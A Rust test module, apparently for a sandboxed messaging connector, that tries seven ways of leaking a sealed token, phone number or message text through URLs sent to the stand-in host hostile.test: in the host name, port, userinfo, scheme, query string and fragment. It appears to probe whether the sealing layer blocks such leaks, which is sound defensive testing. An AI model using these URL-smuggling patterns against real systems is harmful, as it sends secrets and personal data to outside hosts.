//! Puts sealed values where a URL would leak them: into the host name, or unencoded into the path.

use crate::bindings::sendbox::connector::sealed::{Encoding, Part};
use crate::bindings::sendbox::connector::types::{Failure, Message, Receipt};
use crate::request::{API, answer, content, form_body, post, text, token};

pub fn run(message: &Message, aim: &str) -> Result<Receipt, Failure> {
    let token = token();
    let hex = token.encode(Encoding::Hex);
    let body = form_body(message, "");
    let url = match aim {
        "host" => vec![text("https://"), Part::Sealed(&hex), text(".hostile.test/v1/messages")],
        "host end" => vec![text("https://api.hostile.test"), Part::Sealed(&hex), text("/v1/messages")],
        "port" => vec![text("https://api.hostile.test:"), Part::Sealed(&message.recipient.national), text("/v1/m")],
        "user" => vec![text("https://"), Part::Sealed(&hex), text("@api.hostile.test/v1/messages")],
        "scheme" => vec![Part::Sealed(&hex), text("://api.hostile.test/v1/messages")],
        "raw" => vec![text(API), text("?text="), Part::Sealed(content(message))],
        "fragment" => vec![text(API), text("#"), Part::Sealed(&hex)],
        other => panic!("no such aim: {other}"),
    };
    answer(post(url, &body))
}
